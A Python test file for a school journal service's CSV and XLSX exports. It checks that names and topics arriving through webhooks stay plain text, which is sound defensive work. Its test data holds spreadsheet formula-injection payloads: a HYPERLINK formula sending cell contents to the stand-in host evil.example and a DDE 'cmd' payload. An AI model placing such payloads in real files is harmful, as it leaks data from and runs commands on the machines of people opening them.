"""Issue 14, item 3: text from webhooks never becomes a live formula in CSV or XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from services.backup.adapters.export import to_csv, to_xlsx
from services.backup.domain.class_journal import ClassJournal, SubjectGrid
from services.gateway.web.downloads import Sheet, csv_body, xlsx_body
from shared.spreadsheets import csv_cell

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Асанова")'
EVIL_TOPICS = (EVIL_NAME, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1")


def _formula_cells(workbook: bytes) -> list[str]:
    """Every cell stored as a formula (``<f>``) in any sheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe() -> None:
    for text in EVIL_TOPICS:
        assert csv_cell(text) == "'" + text
    for text in ("Асанова А.", "5", "н", "", "a=b", " =not at the start"):
        assert csv_cell(text) == text
    assert csv_cell(-3) == -3 and csv_cell(None) is None  # numbers are not text


def test_the_gateway_downloads_keep_an_evil_teacher_name_as_text() -> None:
    sheet = Sheet("Учителя", ["Учитель", "Тема", "Уроков"],
                  [[EVIL_NAME, topic, 3] for topic in EVIL_TOPICS],
                  heading_lines=[["Школа", "=1+2"]])
    book = xlsx_body([sheet])
    assert _formula_cells(book) == []
    cells = load_workbook(io.BytesIO(book)).active
    assert cells is not None
    assert cells["A1"].value == "Школа" and cells["B1"].value == "=1+2"
    assert cells["A4"].value == EVIL_NAME and cells["A4"].data_type == "s"  # exactly as sent
    assert cells["C4"].value == 3 and cells["C4"].data_type == "n"
    rows = list(csv.reader(io.StringIO(csv_body(sheet).decode("utf-8-sig"))))
    assert rows[0] == ["Школа", "'=1+2"]
    assert rows[3][:2] == ["'" + EVIL_NAME, "'" + EVIL_TOPICS[0]]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row)


def test_the_class_teachers_export_keeps_an_evil_student_name_as_text() -> None:
    journal = ClassJournal(
        class_id="5a", academic_year="2026-2027", students=[("st1", EVIL_NAME)],
        lessons=[{"date": "2026-09-02", "period": 1, "subject_id": "math", "subgroup": None,
                  "topic": EVIL_TOPICS[1], "homework": "@x", "teacher_id": "t1"}],
        flat=[("2026-09-02", 1, "math", "Математика", None, EVIL_TOPICS[1], "@x", "t1", "st1",
               EVIL_NAME, "5", "")],
        grids=[SubjectGrid("Математика", ["2026-09-02"], {EVIL_NAME: {"2026-09-02": "=5"}})])
    book = to_xlsx(journal)
    assert _formula_cells(book) == []
    grid = load_workbook(io.BytesIO(book))["Математика"]
    assert (grid["A2"].value, grid["B2"].value) == (EVIL_NAME, "=5")
    rows = list(csv.reader(io.StringIO(to_csv(journal).decode("utf-8-sig"))))
    assert rows[1][5:7] == ["'" + EVIL_TOPICS[1], "'@x"] and rows[1][9] == "'" + EVIL_NAME


def test_control_characters_in_text_do_not_break_a_workbook() -> None:
    """The fuzz job's find: an id holding \\x19 made the archive's XLSX a 500."""
    book = xlsx_body([Sheet("Класс 5\x19а", ["Школа"], [["sch\x19ool\x00"]])])
    cells = load_workbook(io.BytesIO(book)).active
    assert cells is not None and cells["A2"].value == "sch\ufffdool\ufffd"
    journal = ClassJournal(class_id="5\x01", academic_year="2026-2027",
                           students=[("st1", "Асан\x02")], lessons=[],
                           grids=[SubjectGrid("Мат\x03", ["2026-09-02"], {})])
    assert load_workbook(io.BytesIO(to_xlsx(journal)))["Мат\ufffd"]["A2"].value == "Асан\ufffd"
